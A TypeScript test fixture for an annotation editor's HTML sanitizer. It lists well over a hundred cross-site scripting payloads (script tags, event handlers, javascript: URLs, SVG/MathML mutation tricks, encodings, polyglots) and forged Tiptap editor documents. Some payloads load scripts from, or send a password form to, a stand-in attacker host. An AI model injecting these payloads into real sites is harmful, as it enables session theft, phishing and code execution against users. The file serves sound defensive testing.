// Cross-site scripting payloads for annotation bodies. The unit tests run each one three ways
// (as note text, as a link address, as raw HTML through the sanitizer); end-to-end tests reuse
// the same list to type them into the editor and the API. Sources: OWASP XSS Filter Evasion
// Cheat Sheet, PortSwigger XSS cheat sheet, published DOMPurify / mXSS bypasses (rewritten).

export type XssCategory =
  | "script"
  | "event-handler"
  | "url-scheme"
  | "svg"
  | "mathml"
  | "css"
  | "embedding"
  | "mutation"
  | "encoding";

export interface XssPayload {
  id: string;
  category: XssCategory;
  payload: string;
}

const p = (category: XssCategory, id: string, payload: string): XssPayload => ({
  id: `${category}/${id}`,
  category,
  payload,
});

export const xssPayloads: readonly XssPayload[] = [
  // ---- script tags ----
  p("script", "plain", "<script>alert(1)</script>"),
  p("script", "upper", "<SCRIPT>alert(1)</SCRIPT>"),
  p("script", "src", '<script src="https://evil.example/x.js"></script>'),
  p("script", "unclosed", "<script>alert(1)"),
  p("script", "nested-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
  p("script", "slash-attr", "<script/xss>alert(1)</script>"),
  p("script", "newline-in-tag", "<script\n>alert(1)</script\n>"),
  p("script", "in-paragraph", "<p>hello<script>alert(document.cookie)</script></p>"),
  p("script", "type-module", '<script type="module">import("https://evil.example")</script>'),
  p("script", "after-text", "quote the memo </p><script>alert(1)</script>"),
  p("script", "breaking-attr", '"><script>alert(1)</script>'),
  p("script", "single-quote-break", "'><script>alert(1)</script>"),

  // ---- event handlers ----
  p("event-handler", "img-onerror", "<img src=x onerror=alert(1)>"),
  p("event-handler", "img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
  p("event-handler", "body-onload", "<body onload=alert(1)>"),
  p("event-handler", "p-onmouseover", '<p onmouseover="alert(1)">hover</p>'),
  p("event-handler", "a-onclick", '<a href="https://example.com" onclick="alert(1)">x</a>'),
  p(
    "event-handler",
    "strong-onfocus",
    '<strong tabindex=1 onfocus="alert(1)" autofocus>x</strong>',
  ),
  p("event-handler", "details-ontoggle", "<details open ontoggle=alert(1)>"),
  p("event-handler", "input-autofocus", "<input autofocus onfocus=alert(1)>"),
  p("event-handler", "video-source", "<video><source onerror=alert(1)></video>"),
  p("event-handler", "audio-src", "<audio src=x onerror=alert(1)>"),
  p("event-handler", "marquee", "<marquee onstart=alert(1)>x</marquee>"),
  p("event-handler", "uppercase-handler", "<IMG SRC=x ONERROR=alert(1)>"),
  p("event-handler", "slash-separator", "<img/src=x/onerror=alert(1)>"),
  p("event-handler", "tab-separator", "<img\tsrc=x\tonerror=alert(1)>"),
  p("event-handler", "backtick-value", "<img src=`x` onerror=`alert(1)`>"),
  p("event-handler", "li-onpointerdown", "<ul><li onpointerdown=alert(1)>x</li></ul>"),
  p(
    "event-handler",
    "blockquote-onanimationstart",
    '<blockquote onanimationstart="alert(1)">x</blockquote>',
  ),
  p("event-handler", "ol-start-handler", '<ol start="1" onclick="alert(1)"><li>x</li></ol>'),

  // ---- javascript:, data:, vbscript: URLs ----
  p("url-scheme", "javascript", "javascript:alert(1)"),
  p("url-scheme", "javascript-mixed-case", "JaVaScRiPt:alert(1)"),
  p("url-scheme", "javascript-tab", "java\tscript:alert(1)"),
  p("url-scheme", "javascript-newline", "java\nscript:alert(1)"),
  p("url-scheme", "javascript-cr", "java\rscript:alert(1)"),
  p("url-scheme", "javascript-leading-space", " javascript:alert(1)"),
  p("url-scheme", "javascript-leading-control", "\u0001javascript:alert(1)"),
  p("url-scheme", "javascript-nul", "java\u0000script:alert(1)"),
  p("url-scheme", "javascript-entity-colon", "javascript&colon;alert(1)"),
  p(
    "url-scheme",
    "javascript-decimal-entities",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
  ),
  p(
    "url-scheme",
    "javascript-hex-entities",
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
  ),
  p("url-scheme", "javascript-padded-entities", "&#0000106&#0000097vascript:alert(1)"),
  p("url-scheme", "javascript-url-encoded", "javascript%3Aalert(1)"),
  p("url-scheme", "javascript-zero-width", "java\u200Bscript:alert(1)"),
  p("url-scheme", "data-html", "data:text/html,<script>alert(1)</script>"),
  p("url-scheme", "data-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
  p("url-scheme", "data-svg", "data:image/svg+xml,<svg onload=alert(1)>"),
  p("url-scheme", "vbscript", "vbscript:msgbox(1)"),
  p("url-scheme", "vbscript-upper", "VBSCRIPT:msgbox(1)"),
  p("url-scheme", "protocol-relative", "//evil.example/x"),
  p("url-scheme", "relative", "/documents/../../etc/passwd"),
  p("url-scheme", "backslash-host", "https:\\\\evil.example"),
  p("url-scheme", "https-then-space-handler", 'https://example.com" onmouseover="alert(1)'),
  p("url-scheme", "https-with-quote", 'https://example.com/"><script>alert(1)</script>'),
  p("url-scheme", "a-javascript", '<a href="javascript:alert(1)">click</a>'),
  p("url-scheme", "a-javascript-entity-tab", '<a href="jav&#x09;ascript:alert(1)">click</a>'),
  p("url-scheme", "a-javascript-entity-newline", '<a href="jav&#x0A;ascript:alert(1)">click</a>'),
  p("url-scheme", "a-javascript-leading-entity", '<a href="&#x20;javascript:alert(1)">click</a>'),
  p("url-scheme", "a-javascript-unquoted", "<a href=javascript:alert(1)>click</a>"),
  p(
    "url-scheme",
    "a-data",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  ),
  p("url-scheme", "a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
  p("url-scheme", "a-protocol-relative", '<a href="//evil.example">x</a>'),
  p("url-scheme", "a-xlink", '<a xlink:href="javascript:alert(1)">x</a>'),
  p("url-scheme", "form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),

  // ---- SVG ----
  p("svg", "onload", "<svg onload=alert(1)>"),
  p("svg", "script", "<svg><script>alert(1)</script></svg>"),
  p(
    "svg",
    "animate-href",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
  ),
  p("svg", "set-onbegin", "<svg><set onbegin=alert(1) attributeName=x dur=1s>"),
  p(
    "svg",
    "use-data",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  ),
  p(
    "svg",
    "foreignobject",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
  ),
  p("svg", "image-onerror", "<svg><image href=x onerror=alert(1)></svg>"),
  p(
    "svg",
    "style-cdata",
    "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
  ),
  p("svg", "xlink-a", '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>'),

  // ---- MathML ----
  p(
    "mathml",
    "maction",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ),
  p(
    "mathml",
    "mtext-table-mglyph",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  ),
  p("mathml", "mi-href", '<math><mi href="javascript:alert(1)">x</mi></math>'),
  p(
    "mathml",
    "annotation-xml",
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  ),
  p(
    "mathml",
    "mglyph-svg",
    "<math><mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)></style></mtext></svg></mglyph></mtext></math>",
  ),

  // ---- CSS ----
  p("css", "style-attr-expression", '<p style="width: expression(alert(1))">x</p>'),
  p("css", "style-attr-url", '<p style="background:url(javascript:alert(1))">x</p>'),
  p("css", "style-tag-import", '<style>@import "https://evil.example/x.css";</style>'),
  p("css", "style-tag-url", "<style>p{background:url('javascript:alert(1)')}</style>"),
  p("css", "style-behavior", '<p style="behavior: url(x.htc)">x</p>'),
  p("css", "style-moz-binding", '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>'),
  p("css", "style-escaped", '<p style="background:u\\72l(javascript:alert(1))">x</p>'),
  p("css", "link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'),
  p("css", "class-and-id", '<p class="admin-banner" id="session">x</p>'),
  p(
    "css",
    "style-overlay",
    '<a href="https://evil.example" style="position:fixed;inset:0;z-index:9999">x</a>',
  ),

  // ---- iframe, object, embed, form, meta, base ----
  p("embedding", "iframe-js", "<iframe src=javascript:alert(1)></iframe>"),
  p("embedding", "iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
  p("embedding", "iframe-https", '<iframe src="https://evil.example"></iframe>'),
  p("embedding", "object-data", '<object data="javascript:alert(1)"></object>'),
  p("embedding", "object-param", '<object><param name="src" value="javascript:alert(1)"></object>'),
  p("embedding", "embed", '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
  p("embedding", "form-button", '<form><button formaction="javascript:alert(1)">x</button></form>'),
  p(
    "embedding",
    "form-phishing",
    '<form action="https://evil.example"><input name="password" type="password"></form>',
  ),
  p("embedding", "meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
  p(
    "embedding",
    "meta-refresh-https",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  ),
  p("embedding", "base-href", '<base href="https://evil.example/">'),
  p("embedding", "frameset", "<frameset onload=alert(1)>"),
  p("embedding", "img-src", '<img src="https://evil.example/track.gif">'),
  p("embedding", "isindex", "<isindex type=image src=1 onerror=alert(1)>"),

  // ---- mutation XSS and parser confusion ----
  p(
    "mutation",
    "noscript-title",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  ),
  p("mutation", "template", "<template><script>alert(1)</script></template>"),
  p("mutation", "template-img", "<template><img src=x onerror=alert(1)></template>"),
  p("mutation", "textarea", "<textarea></textarea><script>alert(1)</script></textarea>"),
  p(
    "mutation",
    "textarea-breakout",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  ),
  p("mutation", "title", "<title><img src=x onerror=alert(1)></title>"),
  p("mutation", "title-breakout", "<title></title><img src=x onerror=alert(1)></title>"),
  p("mutation", "xmp", "<xmp><img src=x onerror=alert(1)></xmp>"),
  p("mutation", "xmp-breakout", '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'),
  p("mutation", "comment-attr", '<!--<img src="--><img src=x onerror=alert(1)//">'),
  p("mutation", "comment-bang", "<!--!><img src=x onerror=alert(1)>-->"),
  p("mutation", "conditional-comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
  p("mutation", "cdata", "<![CDATA[<script>alert(1)</script>]]>"),
  p("mutation", "processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
  p(
    "mutation",
    "form-math-namespace",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  ),
  p("mutation", "svg-p-namespace", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
  p(
    "mutation",
    "noembed",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  ),
  p(
    "mutation",
    "noframes",
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  ),
  p("mutation", "plaintext", "<plaintext><script>alert(1)</script>"),
  p(
    "mutation",
    "select-option",
    "<select><option>&lt;script&gt;alert(1)&lt;/script&gt;</option></select>",
  ),
  p(
    "mutation",
    "table-foster",
    "<table><a href=javascript:alert(1)>x</a><tr><td>y</td></tr></table>",
  ),
  p("mutation", "unclosed-attr", '<p title="<img src=x onerror=alert(1)>'),
  p(
    "mutation",
    "nested-a",
    '<a href="https://example.com"><a href="javascript:alert(1)">x</a></a>',
  ),

  // ---- encodings and polyglots ----
  p("encoding", "entity-script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
  p("encoding", "double-entity", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
  p("encoding", "fullwidth-brackets", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E"),
  p("encoding", "nul-in-tag", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"),
  p("encoding", "utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
  p("encoding", "unicode-escape-js", "<img src=x onerror=\\u0061lert(1)>"),
  p(
    "encoding",
    "polyglot-0xsobky",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
  ),
  p("encoding", "polyglot-quotes", "'\"--></style></script><script>alert(1)</script>"),
  p("encoding", "template-literal", "${alert(1)}{{constructor.constructor('alert(1)')()}}"),
  p("encoding", "markdown-link", "[click](javascript:alert(1)) ![x](x onerror=alert(1))"),
  p("encoding", "rtl-override", "\u202Egnp.exe <img src=x onerror=alert(1)>"),
  p("encoding", "bom-script", "\uFEFF<script>alert(1)</script>"),
];

/** Tiptap JSON a forged client could send instead of what the editor produces. */
export interface ForgedDoc {
  id: string;
  doc: unknown;
  /** "reject": parseBody must refuse it; "strip": it parses, the extras gone. */
  expect: "reject" | "strip";
}

const text = (t: string, marks?: unknown[]) => ({
  type: "text",
  text: t,
  ...(marks ? { marks } : {}),
});
const para = (...content: unknown[]) => ({ type: "paragraph", content });
const doc = (...content: unknown[]) => ({ type: "doc", content });

export const forgedTiptapDocs: readonly ForgedDoc[] = [
  {
    id: "node-script",
    expect: "reject",
    doc: doc({ type: "script", content: [text("alert(1)")] }),
  },
  {
    id: "node-iframe",
    expect: "reject",
    doc: doc({ type: "iframe", attrs: { src: "javascript:alert(1)" } }),
  },
  {
    id: "node-image",
    expect: "reject",
    doc: doc(para({ type: "image", attrs: { src: "x", onerror: "alert(1)" } })),
  },
  {
    id: "node-html",
    expect: "reject",
    doc: doc({ type: "html", content: "<img src=x onerror=alert(1)>" }),
  },
  { id: "node-codeBlock", expect: "reject", doc: doc({ type: "codeBlock", content: [text("x")] }) },
  {
    id: "node-heading",
    expect: "reject",
    doc: doc({ type: "heading", attrs: { level: 1 }, content: [text("x")] }),
  },
  {
    id: "node-type-uppercase",
    expect: "reject",
    doc: doc({ type: "Paragraph", content: [text("x")] }),
  },
  {
    id: "node-type-proto",
    expect: "reject",
    doc: doc({ type: "__proto__", content: [text("x")] }),
  },
  {
    id: "node-type-not-string",
    expect: "reject",
    doc: doc({ type: ["paragraph"], content: [text("x")] }),
  },
  { id: "mark-script", expect: "reject", doc: doc(para(text("x", [{ type: "script" }]))) },
  {
    id: "mark-textStyle",
    expect: "reject",
    doc: doc(
      para(
        text("x", [{ type: "textStyle", attrs: { style: "background:url(javascript:alert(1))" } }]),
      ),
    ),
  },
  {
    id: "mark-link-javascript",
    expect: "reject",
    doc: doc(para(text("x", [{ type: "link", attrs: { href: "javascript:alert(1)" } }]))),
  },
  {
    id: "mark-link-data",
    expect: "reject",
    doc: doc(
      para(
        text("x", [{ type: "link", attrs: { href: "data:text/html,<script>alert(1)</script>" } }]),
      ),
    ),
  },
  {
    id: "mark-link-tab",
    expect: "reject",
    doc: doc(para(text("x", [{ type: "link", attrs: { href: "java\tscript:alert(1)" } }]))),
  },
  { id: "mark-link-no-attrs", expect: "reject", doc: doc(para(text("x", [{ type: "link" }]))) },
  {
    id: "text-not-string",
    expect: "reject",
    doc: doc(para({ type: "text", text: { toString: "<script>" } })),
  },
  { id: "doc-in-doc", expect: "reject", doc: doc(doc(para(text("x")))) },
  {
    id: "paragraph-attrs-handler",
    expect: "strip",
    doc: doc({
      type: "paragraph",
      attrs: { onclick: "alert(1)", style: "color:red", class: "x" },
      content: [text("x")],
    }),
  },
  {
    id: "link-attrs-extra",
    expect: "strip",
    doc: doc(
      para(
        text("x", [
          {
            type: "link",
            attrs: {
              href: "https://example.com",
              target: "javascript:alert(1)",
              rel: "opener",
              onclick: "alert(1)",
              class: "x",
            },
          },
        ]),
      ),
    ),
  },
  {
    id: "text-extra-keys",
    expect: "strip",
    doc: doc(
      para({
        type: "text",
        text: "x",
        html: "<script>alert(1)</script>",
        attrs: { onmouseover: "alert(1)" },
      }),
    ),
  },
  {
    id: "ordered-list-type",
    expect: "strip",
    doc: doc({
      type: "orderedList",
      attrs: { start: 2, type: '1" onclick="alert(1)' },
      content: [{ type: "listItem", content: [para(text("x"))] }],
    }),
  },
  {
    id: "doc-extra-keys",
    expect: "strip",
    doc: {
      type: "doc",
      attrs: { onload: "alert(1)" },
      html: "<script>alert(1)</script>",
      content: [para(text("x"))],
    },
  },
];
